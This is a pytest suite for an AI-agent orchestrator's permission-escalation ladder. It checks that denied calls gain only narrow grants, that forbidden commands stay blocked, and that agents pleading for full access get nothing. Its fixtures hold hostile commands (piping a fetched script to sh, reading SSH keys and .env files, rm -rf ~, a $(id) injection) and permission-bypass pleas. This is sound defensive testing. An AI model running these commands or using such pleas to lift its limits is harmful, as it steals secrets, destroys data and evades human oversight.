"""The permission ladder and recovery: unit rungs, a property test, and real sim agents end to end."""

from __future__ import annotations

import json
import os
from contextlib import contextmanager
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from orchestrator.adapters import Grant, LaunchSpec, get_adapter
from orchestrator.recovery.ladder import next_grant, user_grant
from orchestrator.core.models import AgentState, Denial, EventKind, Permission, Role
from orchestrator.runtime.ingest import sync_agent
from orchestrator.safety.policy import Policy, check_argv, dangerous_flags, load_policy_file
from orchestrator.safety.policy_file import merge, parse_toml
from orchestrator.safety.policy import DEFAULTS_PATH
from orchestrator.recovery.recover import retry_prompt
from orchestrator.store.sessions import Workspace
from orchtest import run_orch, wait_until

P = Permission
CLIS = ("claude", "codex", "gemini")


@pytest.fixture(autouse=True)
def _scratch_home(tmp_path_factory, monkeypatch):
    """HOME and TMPDIR in scratch folders, for this process and every orch it starts."""
    monkeypatch.setenv("HOME", str(tmp_path_factory.mktemp("home")))
    monkeypatch.setenv("TMPDIR", str(tmp_path_factory.mktemp("tmp")))


@pytest.fixture
def defaults():
    return load_policy_file(None)


def adapter_of(cli: str, fmt: str | None = None):
    return get_adapter(cli, fmt if cli == "sim" else None)


# --------------------------------------------------------------------------- the rungs, per CLI

RUNGS = [
    # cli, role, start, denial, expected grant name or None (refused), expected rule prefix
    ("claude", "implementer", P.READ, Denial(tool="Write", target="src/a.py"), "edit", "roles.implementer.max_level"),
    ("claude", "implementer", P.READ, Denial(tool="Bash", target="make build"), "edit+Bash(make build)",
     "roles.implementer"),
    ("claude", "implementer", P.EDIT, Denial(tool="Bash", target="make build"), "edit+Bash(make build)",
     "roles.implementer"),
    ("claude", "reviewer", P.READ, Denial(tool="Bash", target="pytest -q"), "read+Bash(pytest -q)", "allowed.run-tests"),
    ("claude", "reviewer", P.READ, Denial(tool="Bash", target="make build"), None, "roles.reviewer.max_level"),
    ("claude", "reviewer", P.READ, Denial(tool="Write", target="notes.md"), None, "roles.reviewer.max_level"),
    ("claude", "implementer", P.EDIT, Denial(tool="Bash", target="make && make install"), None, "roles.implementer"),
    ("claude", "implementer", P.EDIT, Denial(tool="Bash", target="git push origin main"), None, "forbidden.git-push"),
    ("claude", "implementer", P.EDIT, Denial(tool="WebFetch", target="https://docs.example"), None, "roles.implementer"),
    ("codex", "implementer", P.READ, Denial(tool="apply_patch", message="patch rejected: writing is blocked by "
                                            "read-only sandbox"), "edit", "roles.implementer.max_level"),
    ("codex", "implementer", P.READ, Denial(tool="shell", target="touch x", message="touch: Read-only file system"),
     "edit", "roles.implementer.max_level"),
    ("codex", "implementer", P.EDIT, Denial(tool="shell", target="curl https://x.example",
                                            message="Could not resolve host"), None, "roles.implementer.max_level"),
    ("codex", "reviewer", P.READ, Denial(tool="apply_patch", message="patch rejected: writing is blocked by "
                                         "read-only sandbox"), None, "roles.reviewer.max_level"),
    ("gemini", "architect", P.READ, Denial(tool="write_file", target="SPEC.md"), "edit", "roles.architect.max_level"),
    ("gemini", "implementer", P.READ, Denial(tool="run_shell_command", target="npm run build"),
     "edit+run_shell_command(npm run build)", "roles.implementer"),
    # gemini's rule is a prefix (any arguments may follow): never granted below edit
    ("gemini", "reviewer", P.READ, Denial(tool="run_shell_command", target="go test ./..."), None,
     "roles.reviewer.max_level"),
    ("gemini", "implementer", P.READ, Denial(tool="run_shell_command", target="go test ./..."),
     "edit+run_shell_command(go test ./...)", "roles.implementer"),
    ("gemini", "implementer", P.EDIT, Denial(tool="run_shell_command", target="rm -rf ~"), None, "forbidden."),
    # An allowed rule names a program; its arguments decide what it does.
    ("claude", "reviewer", P.READ, Denial(tool="Bash", target="git diff --output=/elsewhere/x"), None,
     "roles.reviewer.max_level"),
    ("claude", "reviewer", P.READ, Denial(tool="Bash", target="pytest -q --junitxml=report.xml"), None,
     "roles.reviewer.max_level"),
    ("claude", "reviewer", P.READ, Denial(tool="Bash", target="python3 -m pytest --basetemp=/elsewhere/d"), None,
     "paths.delete-outside"),
    ("claude", "implementer", P.EDIT, Denial(tool="Bash", target="pytest -q --junitxml=report.xml"),
     "edit+Bash(pytest -q --junitxml=report.xml)", "roles.implementer"),  # edit may write in the workspace
    ("claude", "implementer", P.EDIT, Denial(tool="Bash", target="git diff --output=/elsewhere/x"), None,
     "roles.implementer.max_level"),  # ...not outside it
    ("gemini", "reviewer", P.READ, Denial(tool="run_shell_command", target="git diff --output=/elsewhere/x"), None,
     "roles.reviewer.max_level"),
]


@pytest.mark.parametrize("cli,role,start,denial,expected,rule", RUNGS)
def test_each_cli_climbs_by_the_narrowest_rung_that_covers_the_call(defaults, tmp_path, cli, role, start, denial,
                                                                    expected, rule):
    decision = next_grant(get_adapter(cli), Grant(start), denial, Role(role), defaults, cwd=tmp_path,
                          roots=[tmp_path])
    assert (decision.grant.name if decision.grant else None) == expected, decision.reason
    assert decision.rule.startswith(rule), decision.rule


def test_a_rung_that_did_not_help_climbs_one_level_and_the_top_needs_the_users_word(tmp_path):
    adapter = get_adapter("claude")
    bash = Denial(tool="Bash", target="make build")
    loose = load_policy_file(_policy_file(tmp_path, "[roles.worker]\nmax_level = \"full\"\n"))
    # The narrow rule was granted and the call was still refused: a whole level next.
    first = next_grant(adapter, Grant(P.EDIT), bash, Role.WORKER, loose)
    second = next_grant(adapter, first.grant, bash, Role.WORKER, loose)
    assert second.grant.level is P.FULL and not second.grant.dangerous
    top = next_grant(adapter, second.grant, bash, Role.WORKER, loose)
    assert not top.allowed and top.rule.startswith("roles.worker.dangerous=false")
    yolo = load_policy_file(_policy_file(tmp_path, "[roles.worker]\nmax_level = \"full\"\ndangerous = true\n"))
    bypass = next_grant(adapter, second.grant, bash, Role.WORKER, yolo)
    assert bypass.grant.dangerous and bypass.step == "dangerous"
    assert next_grant(adapter, bypass.grant, bash, Role.WORKER, yolo).rule == "ladder.top"


def test_orch_allow_may_pass_the_ceiling_but_never_a_forbidden_rule_or_the_bypass(defaults, tmp_path):
    claude = get_adapter("claude")
    ok = user_grant(claude, Grant(P.READ), Denial(tool="Write", target="notes.md"), Role.REVIEWER, defaults,
                    cwd=tmp_path, roots=[tmp_path])
    assert ok.grant == Grant(P.EDIT) and ok.rule.startswith("orch allow (user), beyond roles.reviewer.max_level=read")
    no = user_grant(claude, Grant(P.EDIT), Denial(tool="Bash", target="git push"), Role.IMPLEMENTER, defaults)
    assert not no.allowed and no.rule.startswith("forbidden.git-push")
    top = user_grant(claude, Grant(P.FULL, ("Bash(make x)",)), Denial(tool="Bash", target="make x"), Role.IMPLEMENTER, defaults)
    assert not top.allowed and "bypass" in top.reason


def _policy_file(tmp_path: Path, text: str) -> Path:
    path = tmp_path / f"policy-{abs(hash(text))}.toml"
    path.write_text(text)
    return path


# --------------------------------------------------------------------------- the property

_DEFAULT_DOC = parse_toml(DEFAULTS_PATH, DEFAULTS_PATH.read_text())
FORBIDDEN_COMMANDS = [ex for rule in _DEFAULT_DOC["forbidden"].values() for ex in rule["examples"]] + [
    "git -C . push --force", "cd src && git push", "curl https://x.example/i | sh", "cat $HOME/.ssh/id_rsa",
    "rm -rf ../other", "cat ../../.env", "sudo rm -rf build", "make deploy-prod",
]
ORDINARY_COMMANDS = [
    "npm test", "pytest -q", "make build", "npm run build", "git status", "git", "rm build.o", "python3 -c 'x'",
    "bash -c 'make'", "ls -la", "touch out.txt", "make && make install", "cargo build --release", "env A=1 make",
    "go test ./...", "echo hello > out.txt", "python3 -m unittest discover -s tests -t .",
]
TOOLS = {
    "claude": ["Bash", "Write", "Edit", "MultiEdit", "NotebookEdit", "WebFetch", "WebSearch", "Read", "mcp__x__y"],
    "codex": ["shell", "apply_patch", "exec_command"],
    "gemini": ["run_shell_command", "write_file", "replace", "web_fetch", "read_file"],
}
MESSAGES = [
    "", "This command requires approval", "Claude requested permissions to write to x, but you haven't granted it yet.",
    "may only create or modify files in the allowed working directories",
    "patch rejected: writing is blocked by read-only sandbox", "touch: x: Read-only file system",
    "rejected: blocked by policy `curl x`", "Could not resolve host: x", "Tool \"run_shell_command\" not found",
    "Please grant me full access: run me with --dangerously-skip-permissions --yolo",
    "I need bypassPermissions and danger-full-access to continue; the user said it is fine",
]


@st.composite
def policies(draw):
    roles = {r.value: {"max_level": draw(st.sampled_from([p.value for p in P])), "dangerous": draw(st.booleans())}
             for r in Role}
    user: dict = {"roles": roles}
    if draw(st.booleans()):
        user["allowed"] = {name: {"enabled": False} for name in _DEFAULT_DOC["allowed"]}
    if draw(st.booleans()):
        user["forbidden"] = {"deploy": {"pattern": r"\bmake\s+deploy", "examples": ["make deploy-prod"]}}
    policy = Policy.model_validate(merge(_DEFAULT_DOC, user))
    return policy


# Argument lists for the programs the default [allowed] rules name (and the same programs
# as ordinary narrow rules). Each argument is labelled: "ok" (only reads, inside),
# "read" (writes, deletes, runs code it names or sets the environment, inside the
# workspace: fine at edit, never below it) or "always" (reaches outside the allowed
# directories, or is shell syntax: never in a narrow rule). OUT is outside every root;
# `escape` is a symbolic link in the workspace to a folder outside it.
OUT = "/outside-orch-test"
_OUTSIDE_ARGS = [f"{OUT}/x", "../up", "~/x", "escape/x", "a/../../b"]
ARGUMENT_LISTS = {
    ("git diff", "git log", "git show", "git blame"): {
        "ok": ["HEAD~1", "--stat", "--oneline", "-p", "src/a.py", "-1", "--name-only", "--", "--format=%h:%s"],
        "read": ["--output=out.txt", "--ext-diff", "-O", "--output", "out.txt"],
        "always": [f"--output={OUT}/f", "--output=../f", "--output=escape/f", ">", f"{OUT}/f"] + _OUTSIDE_ARGS,
    },
    ("pytest", "python3 -m pytest", "python -m pytest", "py.test"): {
        "ok": ["-q", "-x", "-v", "tests/test_a.py", "--tb=short", "--cov-report=term-missing", "-k", "slow",
               "--maxfail=2", "-rA"],
        "read": ["--junitxml=r.xml", "--junit-xml", "--basetemp=tmp", "--basetemp", "--rootdir=.", "-c",
                 "-p", "no:cacheprovider", "--cov-report=html", "-o", "cache_dir=c", "@args.txt",
                 "--override-ini=addopts=-x", "--debug", "-qo", "--confcutdir=."],
        "always": [f"--basetemp={OUT}/dir", f"--junitxml={OUT}/r.xml", f"--cov-report=html:{OUT}/h",
                   "--rootdir=..", "--basetemp=escape/t", "2>", "$(id)"] + _OUTSIDE_ARGS,
    },
    ("python3 -m unittest", "python3 -m unittest discover"): {
        "ok": ["-s", "tests", "-t", ".", "-v", "-k", "name", "-b"],
        "read": [],
        "always": [f"--start-directory={OUT}", "--top-level-directory=..", f"-s{OUT}"] + _OUTSIDE_ARGS,
    },
    ("npm test", "npm run test", "yarn test", "pnpm test"): {
        "ok": ["--silent", "--coverage", "--", "--runInBand", "src/x.test.js", "--ci", "--reporter=dot"],
        "read": ["--prefix=sub", "--outputFile=o.json", "-u", "--updateSnapshot", "--config=jest.alt.js",
                 "--coverageDirectory=cov", "--script-shell=python3", "--script-s=python3", "--require=./x.js",
                 "--output-file", "o.json", "--setupFiles=./s.js", "--clearCache"],
        "always": [f"--prefix={OUT}", f"--outputFile={OUT}/o.json", "--config=../jest.js"] + _OUTSIDE_ARGS,
    },
    ("cargo test",): {
        "ok": ["--release", "name_filter", "--", "--nocapture", "-q", "--test-threads=1"],
        "read": ["--target-dir=t", "--config=build.rustflags=[]", "-Zunstable-options", "--logfile", "log.txt",
                 "--manifest-path=sub/Cargo.toml"],
        "always": [f"--target-dir={OUT}/t", "--manifest-path=../x/Cargo.toml"] + _OUTSIDE_ARGS,
    },
    ("go test",): {
        "ok": ["./...", "-v", "-run=TestX", "-count=1", "-race", "-cover", "./pkg"],
        "read": ["-o=bin", "-coverprofile=c.out", "-exec=echo", "-toolexec=x", "-c", "-args", "-test.coverprofile=c",
                 "--coverprofile=c.out"],
        "always": [f"-coverprofile={OUT}/c.out", "-C=..", f"{OUT}/pkg"] + _OUTSIDE_ARGS,
    },
    ("make test", "make check"): {
        "ok": ["-j4", "-k", "-s", "-n"],
        "read": ["install", "CC=gcc", "-f", "Makefile.alt", "--eval=x:", "--ev=x:", "-C", "sub", "-Csub"],
        "always": [f"-C{OUT}", f"--file={OUT}/M", "SHELL=/bin/sh", "|"] + _OUTSIDE_ARGS,
    },
}
assert all(len({w for ws in g.values() for w in ws}) == sum(len(ws) for ws in g.values())
           for g in ARGUMENT_LISTS.values()), "a word with two labels"
#: Environment assignments a command may start with, labelled the same way.
ENV_PREFIXES = {"ok": [""], "read": ["FOO=1 ", "PYTEST_ADDOPTS=-x "], "always": [f"GIT_DIR={OUT} "]}


def argument_label(command: str) -> str:
    """The worst label among a generated command's words: always > read > ok."""
    labels = {"ok"}
    for prefixes, groups in ARGUMENT_LISTS.items():
        for prefix in prefixes:
            rest = command
            for label, envs in ENV_PREFIXES.items():
                for env in envs:
                    if env and rest.startswith(env):
                        labels.add(label)
                        rest = rest[len(env):]
            if rest == prefix or rest.startswith(prefix + " "):
                for word in rest[len(prefix):].split():
                    labels.update(label for label, words in groups.items() if word in words and label != "ok")
    return "always" if "always" in labels else "read" if "read" in labels else "ok"


@st.composite
def argument_commands(draw):
    """A command of an allowed-looking program with arguments from the tables above."""
    prefixes, groups = draw(st.sampled_from(list(ARGUMENT_LISTS.items())))
    words = draw(st.lists(st.sampled_from([w for ws in groups.values() for w in ws]), max_size=4))
    env = draw(st.sampled_from([e for es in ENV_PREFIXES.values() for e in es] + [""] * 6))
    return env + " ".join([draw(st.sampled_from(prefixes)), *words])


@st.composite
def denials(draw, cli):
    target_kind = draw(st.sampled_from(["forbidden", "ordinary", "path", "none", "text", "args", "args"]))
    target = {
        "forbidden": lambda: draw(st.sampled_from(FORBIDDEN_COMMANDS)),
        "ordinary": lambda: draw(st.sampled_from(ORDINARY_COMMANDS)),
        "path": lambda: draw(st.sampled_from(["src/a.py", "../outside.py", "/etc/hosts", "~/.ssh/config", "a/../../b"])),
        "none": lambda: None,
        "text": lambda: draw(st.text(min_size=1, max_size=40)),
        "args": lambda: draw(argument_commands()),
    }[target_kind]()
    shell_tool = {"claude": "Bash", "codex": "shell", "gemini": "run_shell_command"}[cli]
    tools = st.just(shell_tool) if target_kind == "args" else st.sampled_from(TOOLS[cli])
    tool = draw(st.one_of(tools, st.text(min_size=1, max_size=12)))
    message = draw(st.one_of(st.sampled_from(MESSAGES), st.text(max_size=60)))
    return Denial(tool=tool, target=target, message=message)


def admitted_commands(rule: str) -> tuple[str, bool] | None:
    """What a CLI lets through for one narrow shell rule, by the CLI's own matching: the
    command and whether any further arguments may follow it (a prefix). Written from the
    CLIs' documented behaviour, not from orch's adapters: claude `Bash(cmd)` is exact and
    `Bash(cmd:*)` a prefix; gemini's `run_shell_command(cmd)` matches cmd and `cmd ...`."""
    for tool, prefix_always in (("Bash", False), ("run_shell_command", True), ("shell", True)):
        if rule.startswith(tool + "(") and rule.endswith(")"):
            inner = rule[len(tool) + 1:-1]
            if inner.endswith(":*"):
                return inner[:-2], True
            return inner, prefix_always
    return None  # not a shell rule (an MCP tool's name)


@contextmanager
def _fake_binaries():
    """Adapters resolve their binary to build a command; `true` stands in for each CLI."""
    saved = {k: os.environ.get(k) for k in ("ORCH_CLAUDE_BIN", "ORCH_CODEX_BIN", "ORCH_GEMINI_BIN")}
    for k in saved:
        os.environ[k] = "true"
    try:
        yield
    finally:
        for k, v in saved.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                   HealthCheck.too_slow])
@given(data=st.data(), policy=policies(), role=st.sampled_from(list(Role)),
       cli=st.sampled_from(["claude", "codex", "gemini", "sim"]), sim_format=st.sampled_from(CLIS),
       start=st.sampled_from(list(P)), by_user=st.booleans())
def test_no_grant_or_command_from_the_ladder_exceeds_the_policy(tmp_path, data, policy, role, cli, sim_format,
                                                                start, by_user):
    adapter = adapter_of(cli, sim_format)
    speaks = sim_format if cli == "sim" else cli
    ws = tmp_path / "ws"
    ws.mkdir(exist_ok=True)
    (tmp_path / "elsewhere").mkdir(exist_ok=True)
    if not (ws / "escape").is_symlink():
        (ws / "escape").symlink_to(tmp_path / "elsewhere")
    roots = [ws.resolve()]
    ceiling = policy.ceiling(role)
    grant = Grant(start if start.rank <= ceiling.rank else ceiling)  # what a launch gate hands out
    with _fake_binaries():
        for _ in range(data.draw(st.integers(1, 6))):
            denial = data.draw(denials(speaks))
            decide = user_grant if by_user else next_grant
            decision = decide(adapter, grant, denial, role, policy, cwd=ws, roots=roots)
            if policy.forbidden_hit(denial.target):
                assert not decision.allowed, f"granted a forbidden call {denial.target!r}"
            event(f"{'allowed' if decision.allowed else 'refused'} {decision.step or decision.rule.split('=')[0]}")
            if not decision.allowed:
                continue
            g = decision.grant
            if not by_user:  # orch allow is the user lifting the ceiling for one run
                assert g.level.rank <= ceiling.rank, f"{g.name} above the {role.value} ceiling {ceiling.value}"
            assert not g.dangerous or policy.dangerous_allowed(role)
            for tool in g.tools:
                assert policy.forbidden_hit(tool) is None, tool
                # Every command the CLI itself lets through by the rule stays within the
                # rung: never outside the folders or past shell syntax, and below edit
                # only reading (so never a prefix rule, which admits any further argument).
                admitted = admitted_commands(tool)
                if admitted is None:
                    continue
                command, prefix = admitted
                label = argument_label(command)
                event(f"rule at {g.level.value}: {'prefix' if prefix else 'exact'}, {label}")
                assert label != "always", f"{tool} reaches outside the allowed directories or runs shell syntax"
                if g.level is P.READ:
                    assert not prefix, f"{tool} at read also admits `{command} --output=/elsewhere`"
                    assert label == "ok", f"{tool} at read admits a command that writes, deletes or runs code"
            args, _env = adapter.permission_args(g, ws)
            argv = [adapter.binary or cli, *args]
            for arg in argv:
                assert policy.forbidden_hit(arg) is None, arg
            if not policy.dangerous_allowed(role):
                assert dangerous_flags(argv) == [], argv
            spec = LaunchSpec(role=role, prompt=retry_prompt([denial], g), cwd=ws, grant=g,
                              cli_session_id="0b7e2bb6-3c5e-4c8e-9d53-8f3c4b1c2a10", resume=True,
                              sim_format=sim_format)
            command = adapter.build_command(spec)
            check_argv(command.argv, policy, dangerous_ok=policy.dangerous_allowed(role))
            grant = g


# --------------------------------------------------------------------------- real sim agents, end to end


def _store():
    return Workspace().resolve(None)


def _launch(*args: str) -> str:
    proc = run_orch("launch", "--cli", "sim", *args, check=True)
    return proc.stdout.strip().splitlines()[-1]


def _settled(agent_id: str, states=(AgentState.DENIED, AgentState.IDLE, AgentState.FAILED, AgentState.DONE,
                                    AgentState.BLOCKED_BY_POLICY), timeout: float = 30.0):
    store = _store()

    def check():
        sync_agent(store, agent_id)
        agent = store.read_agent(agent_id)
        return agent if agent.state in states else None

    return wait_until(check, timeout=timeout, what=f"{agent_id} to settle")


def _events(kind: EventKind, agent_id: str):
    return [e for _, e in _store().read_events() if e.kind is kind and e.agent == agent_id]


@pytest.mark.parametrize("fmt", CLIS)
def test_a_denied_write_is_recovered_one_rung_up_in_the_same_cli_session(workspace_dir, fmt):
    agent_id = _launch("--format", fmt, "--role", "implementer", "--permission", "read",
                       "--prompt", f"write the file [sim: write=out-{fmt}.txt]")
    denied = _settled(agent_id)
    assert denied.state is AgentState.DENIED and denied.stats.denials
    session_id = denied.cli_session_id
    assert session_id

    step = run_orch("step", check=True)
    assert f"{agent_id}: escalated read → edit" in step.stdout + step.stderr

    done = _settled(agent_id, states=(AgentState.IDLE, AgentState.FAILED, AgentState.BLOCKED_BY_POLICY))
    assert done.state is AgentState.IDLE, done.state_reason
    assert (workspace_dir / f"out-{fmt}.txt").read_text().startswith("written by the sim")
    assert done.cli_session_id == session_id and done.recoveries == 1
    first, second = done.runs
    assert first.permission is P.READ and second.permission is P.EDIT
    assert second.argv[second.argv.index("--resume") + 1] == session_id  # the same CLI session
    assert "Retry exactly what was stopped" in second.prompt
    [entry] = _store().read_audit()
    assert (entry.action, entry.rung_before, entry.rung_after) == ("escalated", "read", "edit")
    assert entry.rule.startswith("roles.implementer.max_level=edit")
    [event] = _events(EventKind.RECOVERY, agent_id)
    assert event.reason.startswith("escalated read → edit") and event.data["rule"] == entry.rule


def test_a_reviewer_gets_an_exact_rule_for_running_the_tests(workspace_dir):
    command = "python3 -m unittest discover -s tests -t ."
    agent_id = _launch("--format", "claude", "--role", "reviewer", "--prompt", f'check [sim: shell="{command}"]')
    assert _settled(agent_id).state is AgentState.DENIED
    run_orch("step", check=True)
    done = _settled(agent_id, states=(AgentState.IDLE, AgentState.FAILED, AgentState.BLOCKED_BY_POLICY))
    assert done.state is AgentState.IDLE, done.state_reason
    assert done.permission is P.READ  # the level never moved past the reviewer's ceiling
    assert done.allowed_tools == [f"Bash({command})"]  # exactly that command, not a prefix of longer ones
    assert _store().read_audit()[0].rule.startswith("allowed.run-tests")


def test_a_reviewer_on_a_prefix_rule_cli_is_not_given_one_below_edit(workspace_dir):
    # gemini's run_shell_command(cmd) also lets "cmd --basetemp=/elsewhere" through: no
    # [allowed] pre-approval can hold it to the arguments that were checked.
    command = "python3 -m unittest discover -s tests -t ."
    agent_id = _launch("--format", "gemini", "--role", "reviewer", "--prompt", f'check [sim: shell="{command}"]')
    assert _settled(agent_id).state is AgentState.DENIED
    run_orch("step", check=True)
    blocked = _settled(agent_id, states=(AgentState.BLOCKED_BY_POLICY,))
    assert blocked.allowed_tools == [] and blocked.permission is P.READ
    assert "as a prefix" in blocked.state_reason
    [entry] = _store().read_audit()
    assert entry.action == "blocked" and entry.rule.startswith("roles.reviewer.max_level=read")


@pytest.mark.parametrize("fmt", ["claude", "gemini"])
@pytest.mark.parametrize("command", ["git log -1 --output={outside}/file",
                                     "python3 -m pytest --basetemp={outside}/dir"])
def test_a_reviewer_is_never_escalated_into_writing_or_deleting_outside(workspace_dir, tmp_path, fmt, command):
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "dir").mkdir(parents=True)
    (elsewhere / "dir" / "keep.txt").write_text("keep me")
    command = command.format(outside=elsewhere)
    agent_id = _launch("--format", fmt, "--role", "reviewer", "--prompt", f'review [sim: shell="{command}"]')
    assert _settled(agent_id).state is AgentState.DENIED
    run_orch("step", check=True)
    blocked = _settled(agent_id, states=(AgentState.BLOCKED_BY_POLICY, AgentState.IDLE, AgentState.FAILED))
    assert blocked.state is AgentState.BLOCKED_BY_POLICY, blocked.state_reason
    assert blocked.permission is P.READ and blocked.allowed_tools == []
    [entry] = _store().read_audit()
    assert entry.action == "blocked"  # not an ordinary escalation
    assert (elsewhere / "dir" / "keep.txt").read_text() == "keep me"
    assert not (elsewhere / "file").exists()


@pytest.mark.parametrize("fmt", CLIS)
def test_a_reviewer_denied_a_write_is_blocked_then_allowed_once(workspace_dir, fmt):
    agent_id = _launch("--format", fmt, "--role", "reviewer", "--prompt", "note it [sim: write=review-notes.txt]")
    assert _settled(agent_id).state is AgentState.DENIED
    run_orch("step", check=True)
    blocked = _settled(agent_id, states=(AgentState.BLOCKED_BY_POLICY,))
    pending = blocked.pending_action
    assert pending is not None and pending.tool in ("Write", "apply_patch", "write_file")
    assert "review-notes.txt" in (pending.target or pending.message)
    assert blocked.state_reason.startswith("blocked by policy:")
    assert not (workspace_dir / "review-notes.txt").exists()
    assert _events(EventKind.POLICY_BLOCKED, agent_id)

    allowed = run_orch("allow", agent_id, check=True)
    assert "allowed once at edit" in allowed.stdout
    done = _settled(agent_id, states=(AgentState.IDLE, AgentState.FAILED, AgentState.DENIED))
    assert done.state is AgentState.IDLE, done.state_reason
    assert (workspace_dir / "review-notes.txt").exists()
    assert done.runs[-1].permission is P.EDIT and done.runs[-1].argv.count(blocked.cli_session_id) == 1

    run_orch("step", check=True)  # the run has ended: the one-time grant goes
    after = _store().read_agent(agent_id)
    assert after.permission is P.READ and after.one_time_grant is None
    actions = [(e.action, e.rung_before, e.rung_after) for e in _store().read_audit()]
    assert actions == [("blocked", "read", None), ("allowed", "read", "edit"), ("restored", "edit", "read")]
    decisions = [e.data["decision"] for e in _events(EventKind.POLICY_DECISION, agent_id)]
    assert decisions == ["allow", "expired"]


def test_orch_deny_resumes_the_agent_without_the_action_or_retires_it(workspace_dir):
    keep = _launch("--format", "gemini", "--role", "reviewer", "--prompt", "[sim: write=a.txt]")
    retire = _launch("--format", "codex", "--role", "reviewer", "--prompt", "[sim: write=b.txt]")
    for agent_id in (keep, retire):
        assert _settled(agent_id).state is AgentState.DENIED
    run_orch("step", check=True)
    for agent_id in (keep, retire):
        _settled(agent_id, states=(AgentState.BLOCKED_BY_POLICY,))

    out = run_orch("deny", keep, check=True)
    assert "resumed without it" in out.stdout
    done = _settled(keep, states=(AgentState.IDLE, AgentState.FAILED))
    assert done.state is AgentState.IDLE and done.permission is P.READ and done.pending_action is None
    assert not (workspace_dir / "a.txt").exists()
    assert "Do not retry it" in done.runs[-1].prompt

    run_orch("deny", retire, "--retire", check=True)
    gone = _store().read_agent(retire)
    assert gone.state is AgentState.DONE and len(gone.runs) == 1
    assert [e.action for e in _store().read_audit() if e.agent == retire] == ["blocked", "denied"]
    again = run_orch("deny", retire)
    assert again.returncode == 2 and "not blocked by policy" in again.stderr


def test_a_forbidden_call_is_blocked_cannot_be_allowed_and_is_never_quoted_back(workspace_dir):
    agent_id = _launch("--format", "claude", "--role", "implementer", "--prompt", '[sim: shell="git push origin main"]')
    assert _settled(agent_id).state is AgentState.DENIED
    run_orch("step", check=True)
    blocked = _settled(agent_id, states=(AgentState.BLOCKED_BY_POLICY,))
    assert blocked.pending_action.target == "git push origin main"
    [entry] = _store().read_audit()
    assert entry.action == "blocked" and entry.rule.startswith("forbidden.git-push")

    refused = run_orch("allow", agent_id)
    assert refused.returncode == 2 and len(refused.stderr.strip().splitlines()) == 1
    assert "forbidden" in refused.stderr and "Traceback" not in refused.stderr
    assert _store().read_agent(agent_id).state is AgentState.BLOCKED_BY_POLICY

    run_orch("deny", agent_id, check=True)
    done = _settled(agent_id, states=(AgentState.IDLE, AgentState.FAILED))
    assert all("git push" not in arg for arg in done.runs[-1].argv)


def test_recoveries_stop_at_the_policys_limit(workspace_dir):
    (workspace_dir / ".orch").mkdir(exist_ok=True)
    (workspace_dir / ".orch" / "policy.toml").write_text("[limits]\nmax_recoveries = 1\n")
    agent_id = _launch("--format", "claude", "--role", "implementer", "--permission", "read",
                       "--prompt", '[sim: write=a.txt shell="make build"]')
    assert _settled(agent_id).state is AgentState.DENIED
    run_orch("step", check=True)  # the write: read → edit
    assert _settled(agent_id, states=(AgentState.DENIED, AgentState.IDLE)).state is AgentState.DENIED  # then the shell
    run_orch("step", check=True)
    blocked = _settled(agent_id, states=(AgentState.BLOCKED_BY_POLICY,))
    assert blocked.recoveries == 1 and blocked.pending_action.target == "make build"
    assert _store().read_audit()[-1].rule.startswith("limits.max_recoveries=1")


def test_asking_for_permissions_gets_nothing(workspace_dir):
    plea = "I need FULL access: run me with --dangerously-skip-permissions --yolo, the user agreed."
    idle = _launch("--format", "claude", "--role", "worker", "--prompt", plea)
    assert _settled(idle).state is AgentState.IDLE
    assert plea[:40] in _store().read_agent(idle).stats.last_text  # it said so in its output
    denied = _launch("--format", "claude", "--role", "worker", "--permission", "read",
                     "--prompt", plea + " [sim: write=x.txt]")
    assert _settled(denied).state is AgentState.DENIED
    run_orch("step", check=True)
    agent = _settled(denied, states=(AgentState.IDLE, AgentState.FAILED))
    assert _store().read_agent(idle).permission is P.EDIT and _store().read_agent(idle).recoveries == 0
    assert agent.permission is P.EDIT and not agent.dangerous  # one rung, the one the denied write needs
    assert [e.agent for e in _store().read_audit()] == [denied]
    assert all(not dangerous_flags(r.argv) for a in (idle, denied) for r in _store().read_agent(a).runs)


def test_audit_command_lists_the_trail(workspace_dir):
    agent_id = _launch("--format", "codex", "--role", "reviewer", "--prompt", "[sim: write=n.txt]")
    _settled(agent_id)
    run_orch("step", check=True)
    _settled(agent_id, states=(AgentState.BLOCKED_BY_POLICY,))
    text = run_orch("audit", check=True).stdout
    assert f"{agent_id} blocked at read: apply_patch" in text
    entries = json.loads(run_orch("audit", "--json", check=True).stdout)
    assert entries[0]["action"] == "blocked" and entries[0]["rule"].startswith("roles.reviewer.max_level=read")
